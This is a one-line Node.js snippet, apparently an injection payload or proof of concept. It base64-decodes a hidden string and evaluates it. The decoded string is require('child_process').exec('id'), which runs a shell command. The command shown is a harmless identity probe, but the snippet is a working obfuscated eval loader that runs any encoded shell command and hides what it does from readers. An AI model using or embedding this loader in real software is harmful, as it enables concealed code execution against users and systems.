(function () { eval(Buffer.from(arguments[0], 'base64').toString()); })('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2lkJyk=');
